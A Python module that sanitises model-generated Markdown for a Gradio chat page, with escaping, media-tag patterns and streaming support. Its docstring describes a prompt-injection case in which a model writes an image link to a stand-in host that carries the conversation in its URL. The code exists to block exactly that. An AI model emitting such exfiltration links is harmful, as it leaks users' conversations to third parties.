"""Markdown from a model (or a client) made safe to render: no image fetched, no raw HTML, code left as written.

A model can be prompt-injected into writing `![x](https://elsewhere/?leak=<the conversation>)`: rendered, the
visitor's browser would fetch it on its own. Here every image becomes a plain link (shown, fetched only if
clicked), and every `<` outside code is escaped, so that no HTML tag, comment or autolink exists for the page's
Markdown renderer (the page's Content-Security-Policy is the backstop for anything that gets past this).

What is code is decided as the page decides it (`services.marked`: a model of marked 12 as Gradio's Chatbot runs
it, which replaces `$$...$$` with placeholders before marked sees the text), and where the model cannot be sure,
the text is treated as text: a `<` escaped inside code shows as `&lt;`, which is cosmetic, while one left raw
outside code would be rendered. Three of the page's features are neutralised outright: mermaid diagrams (mermaid
renders HTML from its labels, entities included), link reference definitions (shown as text, not hidden), and
images (made links). Everything runs in linear time; `MarkdownStream` renders a reply as it streams in, redoing
only the block still open at its end.
"""

from __future__ import annotations

import re
from urllib.parse import quote

from services.marked import FRESH, Checkpoint, Resume, analyze

__all__ = ["MarkdownStream", "safe_markdown"]

_MERMAID = "```mermaid"
# An HTML media element with a source, on one line: made a link to the source (and the `!`s before it go, as before
# a Markdown image's `[`). Its body stops at what could change the structure the page sees (`|`, backticks, `$`,
# brackets), so that it is one piece, in code or out of it.
_MEDIA_START = r"<(?:img|image|source|video|audio|picture|iframe|embed|object)(?=[\s/>])"
_MEDIA = _MEDIA_START + r"[^<>\n`$|\[\]]*>"
_SOURCE = re.compile(r"""(?<![\w-])(?:src|href|data|poster)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>"']+))""", re.I)
# A line's start as far as blocks go: indentation, list bullets and numbers, task boxes, blockquote marks.
_LINE_START = r"^(?:[ \t>*+\-0-9.)]|\[[ xX]\] )*"
# A `[` where a block may start could start a link reference definition (marked: `[label]:`, where the label may
# run over any number of lines). Unless its label ends on its own line at a `[`, or at a `]` not followed by `:`,
# it is escaped (shown as `[`): whether it would start one is then decided by its line alone, and an escaped `[`
# taken into another label is no `[` that label can start from.
_LABEL_STOP = re.compile(r"[\[\]\\]")
_PREFIX = re.compile(_LINE_START[1:])
_LINE_EVENT = re.compile(rf"{_LINE_START[1:]}(?:(!+)(?=\[|{_MEDIA_START})|\[)", re.IGNORECASE)
_MEDIA_TAG = re.compile(_MEDIA, re.IGNORECASE)
_BANGS = re.compile(rf"!+(?=\[|{_MEDIA_START})", re.IGNORECASE)
_LEADING_TABS = re.compile(r"^( *)(\t+)", re.MULTILINE)
_DOLLARS = "$$"
_JS_SPACE = "\t\n\v\f\r \xa0\u1680" + "".join(map(chr, range(0x2000, 0x200B))) + "\u2028\u2029\u202f\u205f\u3000\ufeff"
# Characters a media source keeps in the link made of it; the rest are percent-encoded.
_URL_SAFE = "-.:/?#@!&'+,;=%"


def _normalized(text: str) -> str:
    """The text as marked reads it first: line ends as `\\n`, tabs that start a line as four spaces each; and
    mermaid blocks as plain code (mermaid renders HTML written in its labels, even as entities)."""
    if "\r" in text:
        text = text.replace("\r\n", "\n").replace("\r", "\n")
    if "\t" in text:
        text = _LEADING_TABS.sub(lambda match: match.group(1) + "    " * len(match.group(2)), text)
    if _MERMAID in text:
        # An invisible mark after the word: the page's mermaid rule (```mermaid\s*\n) no longer matches, and the
        # text is only ever added to at its end, as it streams in.
        text = text.replace(_MERMAID, _MERMAID + "\u200b")
    return text


def _latex(text: str, start: int = 0) -> tuple[list[tuple[int, int]], int | None]:
    """Gradio's `$$...$$` pairs, as its `/\\$\\$([\\s\\S]+?)\\$\\$/g` replacement finds them: their ranges, and where a
    `$$` waits for its pair (None if none does)."""
    pairs: list[tuple[int, int]] = []
    pos = text.find(_DOLLARS, start)
    while pos >= 0:
        close = text.find(_DOLLARS, pos + 3)
        if close < 0:
            return pairs, pos
        pairs.append((pos, close + 2))
        pos = text.find(_DOLLARS, close + 2)
    return pairs, None


def _line_starts(text: str, start: int, end: int) -> list[int]:
    """The line starts in text[start:end]."""
    out = [start] if start < end and (start == 0 or text[start - 1] == "\n") else []
    pos = text.find("\n", start, end)
    while 0 <= pos < end - 1:
        out.append(pos + 1)
        pos = text.find("\n", pos + 1, end)
    return out


def _definitions(text: str) -> set[int]:
    """The positions of the `[` to escape: those where a block may start whose label does not end on their line
    at a `[` or at a `]` that is not followed by `:`."""
    found: set[int] = set()
    if "[" not in text:
        return found
    for line in _line_starts(text, 0, len(text)):
        start = _PREFIX.match(text, line).end()  # type: ignore[union-attr]
        if text[start : start + 1] != "[":
            continue
        line_end = text.find("\n", start)
        line_end = len(text) if line_end < 0 else line_end
        if text[start + 1 : line_end].lstrip(_JS_SPACE).startswith("]"):
            continue  # marked: (?!\s*\])
        pos = start + 1
        while True:
            stop = _LABEL_STOP.search(text, pos, line_end)
            if stop is None:
                found.add(start)  # its label runs on past its line
                break
            if stop.group() == "\\":
                if stop.end() >= line_end:
                    break  # `\\` then a line end: the label stops short of a `]`
                pos = stop.end() + 1
            elif stop.group() == "[" or text[stop.end() : stop.end() + 1] != ":":
                break
            else:
                found.add(start)
                break
    return found


def _view(text: str, latex: list[tuple[int, int]], definitions: set[int]) -> str:
    """What the page's Markdown renderer is given for the output built from `text`, as far as its structure goes:
    no `<` (escaped outside code, and inside code it changes nothing), `$$...$$` inert, no definitions."""
    view = text.replace("<", "&")
    if latex:
        parts = []
        last = 0
        for start, end in latex:
            parts += [view[last:start], "%" * (end - start)]
            last = end
        parts.append(view[last:])
        view = "".join(parts)
    if definitions:
        chars = list(view)
        for pos in definitions:
            chars[pos] = "%"
        view = "".join(chars)
    return view


def _media_link(tag: str) -> str | None:
    found = _SOURCE.search(tag)
    if not found:
        return None
    url = next(group for group in found.groups() if group is not None).strip()
    return f"[image link]({quote(url, safe=_URL_SAFE)})" if url else None


def _escaped(text: str, start: int, end: int, definitions: set[int]) -> str:
    """text[start:end], outside code: every `<` escaped, media and images made links, definitions shown."""
    bangs = text.find("!", start, end) >= 0
    brackets = text.find("[", start, end) >= 0
    media = text.find("<", start, end) >= 0 and text.find(">", start, end) >= 0
    if not (bangs or brackets or media):
        return text[start:end].replace("<", "&lt;")
    events: list[tuple[int, int, str]] = []
    if media:
        for match in _MEDIA_TAG.finditer(text, start, end):
            link = _media_link(match.group())
            events.append((match.start(), match.end(), link if link else "&lt;" + match.group()[1:]))
    at_line_start = set()
    if bangs or brackets:
        for line in _line_starts(text, start, end):
            event = _LINE_EVENT.match(text, line, end)
            if event and event.group(1):
                # At a line's start the `!`s go for an invisible mark, so that `[` does not start the line.
                events.append((event.start(1), event.end(1), "\u200b"))
                at_line_start.add(event.start(1))
            elif event and event.end() - 1 in definitions:
                events.append((event.end() - 1, event.end(), "\\["))
    if bangs:
        events += [(match.start(), match.end(), "") for match in _BANGS.finditer(text, start, end)]
    events.sort()
    out = []
    pos = start
    for event_start, event_end, replacement in events:
        if event_start < pos or (replacement == "" and event_start in at_line_start):
            continue
        out += [text[pos:event_start].replace("<", "&lt;"), replacement]
        pos = event_end
    out.append(text[pos:end].replace("<", "&lt;"))
    return "".join(out)


class Escaped:
    """The escaped start of the text that ends a growing text, kept across renders (`MarkdownStream`): escaping
    is local, so what was escaped up to a point that nothing appended can change is done once."""

    def __init__(self) -> None:
        self.start = -1  # where that text starts, counted from the start of the whole text
        self.safe = -1  # how far it is escaped, likewise
        self.out = ""


def _safe_cut(text: str, low: int, high: int) -> int:
    """The furthest point in [low, high] up to which escaping text[low:] no longer depends on what is appended:
    before the last `<` (a tag may still close), before `!`s that a tag or `[` may still follow, and out of the
    start of a line (its `!` or `[` there, and a `[` whose label the rest of its line decides)."""
    cut = high
    last = text.rfind("<", low, cut)
    if last >= 0:
        cut = last
    bang = text.rfind("!", max(low, cut - 12), cut)
    if bang >= 0:
        cut = len(text[:bang].rstrip("!")) if bang > low else low
    line = text.rfind("\n", 0, cut) + 1
    prefix = _PREFIX.match(text, line).end()  # type: ignore[union-attr]
    if cut <= prefix + 1:
        cut = line
    elif text[prefix : prefix + 1] == "[" and text.find("\n", prefix, high) < 0:
        cut = line  # the rest of its line decides whether that `[` is escaped
    return max(low, cut)


def _assemble(
    text: str,
    code: list[int],
    latex: list[tuple[int, int]],
    definitions: set[int],
    cuts: list[int],
    escaped: Escaped | None = None,
    base: int = 0,
) -> tuple[str, list[int]]:
    """The output for `text`: code (flat (start, end) pairs) and `$$...$$` as written, the rest escaped; and the
    offset in it of each of `cuts` (sorted line starts). `escaped` keeps the escaped start of the text that ends
    `text` (which starts at `base` of a growing text)."""

    def escape(start: int, end: int) -> str:
        if escaped is None or end < len(text):
            return _escaped(text, start, end, definitions)
        if escaped.start != base + start or escaped.safe > base + end:
            escaped.start, escaped.safe, escaped.out = base + start, base + start, ""
        done = escaped.safe - base
        cut = _safe_cut(text, done, end)
        escaped.out += _escaped(text, done, cut, definitions)
        escaped.safe = base + cut
        return escaped.out + _escaped(text, cut, end, definitions)

    kept: list[tuple[int, int]] = []
    for a, b in sorted([*zip(code[::2], code[1::2], strict=True), *latex]):
        if kept and a <= kept[-1][1]:
            if b > kept[-1][1]:
                kept[-1] = (kept[-1][0], b)
        elif b > a:
            kept.append((a, b))
    out: list[str] = []
    length = 0
    offsets: list[int] = []
    k = 0
    pos = 0
    for a, b in [*kept, (len(text), len(text))]:
        while k < len(cuts) and cuts[k] <= a:  # the text before `a`, cut where asked
            if cuts[k] > pos:
                out.append(escape(pos, cuts[k]))
                length += len(out[-1])
                pos = cuts[k]
            offsets.append(length)
            k += 1
        if a > pos:
            out.append(escape(pos, a))
            length += len(out[-1])
        while k < len(cuts) and cuts[k] < b:  # kept as written: offsets as in the text
            offsets.append(length + cuts[k] - a)
            k += 1
        out.append(text[a:b])
        length += b - a
        pos = b
    return "".join(out), offsets


def _needs_work(text: str) -> bool:
    return "<" in text or "!" in text or _MERMAID in text


def _render(
    text: str, resume: Resume = FRESH, *, checkpoints: bool = True, escaped: Escaped | None = None, base: int = 0
) -> tuple[str, list[tuple[Checkpoint, int]], int | None]:
    """The safe output for `text` (normalised) lexed from `resume`; if asked, its checkpoints, each with its
    offset in the output; and where a `$$` waits for its pair. (`escaped` and `base`: see `_assemble`.)"""
    latex, waiting = _latex(text)
    definitions = _definitions(text)
    code, found = analyze(_view(text, latex, definitions), resume=resume, checkpoints=checkpoints)
    cuts = [checkpoint.pos for checkpoint in found]
    out, offsets = _assemble(text, code, latex, definitions, cuts, escaped, base)
    return out, list(zip(found, offsets, strict=True)), waiting


def safe_markdown(text: str) -> str:
    """`text` with images as links and raw HTML shown as text, outside code as the page's renderer sees it."""
    if not _needs_work(text):
        return text  # the common case, on every streamed update
    return _render(_normalized(text), checkpoints=False)[0]


class MarkdownStream:
    """`safe_markdown` of a text that grows (a reply streaming in), redoing only what its end may still change.

    Each `render` returns exactly `safe_markdown(text)`. What comes before the last checkpoint of
    `services.marked` in the text's whole lines (a blank line between blocks, a line of a fenced block still open,
    a list's next item, a table's next row) cannot change whatever is appended: it is kept, output included, and
    only the rest is rendered again. A `$$` before that point still waiting for its pair is the exception: a later
    `$$` pairs with it, so the renderer goes back to before it. A text that does not extend the last one starts
    over.
    """

    def __init__(self) -> None:
        self._text = ""  # the last text rendered
        self._fast = True  # no `<`, `!` or mermaid in it yet: the output is the text itself
        self._raw_done = 0  # where the raw text's whole lines end (what `_normal` holds, normalised)
        self._normal = ""  # the normalised text from the kept point to `_raw_done`
        self._resume = FRESH  # how lexing goes on at the kept point
        self._out = ""  # the output up to the kept point
        # While a `$$` that the kept point relies on waits for its pair: the normalised text from a checkpoint that
        # does not rely on it to the kept point, the output and resume at that checkpoint, and where the `$$` is.
        self._back: tuple[str, str, Resume, int] | None = None
        self._base = 0  # where the kept point is in the whole normalised text
        self._escaped = Escaped()
        self._last: str | None = None  # the output for `_text`

    @property
    def text(self) -> str:
        """The last text rendered."""
        return self._text

    def render(self, text: str) -> str:
        """`safe_markdown(text)`, reusing what was done for the text this one extends."""
        if text == self._text and self._last is not None:
            return self._last  # a reply's thinking, sent again with each update of its answer
        if not text.startswith(self._text):
            self.__init__()  # type: ignore[misc]
        self._text = text
        self._last = self._update(text)
        return self._last

    def _update(self, text: str) -> str:
        if self._fast:
            if not _needs_work(text):
                return text
            self._fast = False
        lines_end = max(text.rfind("\n"), text.rfind("\r", 0, len(text) - 1)) + 1
        if lines_end > self._raw_done:
            self._normal += _normalized(text[self._raw_done : lines_end])
            self._raw_done = lines_end
        tail = self._normal + _normalized(text[self._raw_done :])
        if self._back is not None and tail.find(_DOLLARS, max(self._back[3] - self._base + 3, 0)) >= 0:
            # The waiting `$$` has its pair (Gradio's: the next `$$` at least 3 characters on): go back.
            before, self._out, self._resume, _ = self._back
            self._back = None
            self._normal = before + self._normal
            self._base -= len(before)
            tail = before + tail
        out, marks, waiting = _render(tail, self._resume, escaped=self._escaped, base=self._base)
        full = self._out + out
        usable = [(checkpoint, offset) for checkpoint, offset in marks if 0 < checkpoint.pos <= len(self._normal)]
        if usable:
            checkpoint, offset = usable[-1]
            if self._back is not None:
                before, out_before, resume, dollars = self._back
                self._back = (before + tail[: checkpoint.pos], out_before, resume, dollars)
            elif waiting is not None and waiting <= checkpoint.horizon:
                # Back to the last checkpoint that relied on nothing from the waiting `$$` on.
                earlier = [(mark, at) for mark, at in usable if mark.horizon < waiting]
                mark, at = earlier[-1] if earlier else (Checkpoint(0, self._resume), 0)
                self._back = (tail[mark.pos : checkpoint.pos], self._out + out[:at], mark.resume, self._base + waiting)
            self._out += out[:offset]
            self._normal = self._normal[checkpoint.pos :]
            self._resume = checkpoint.resume
            self._base += checkpoint.pos
        return full
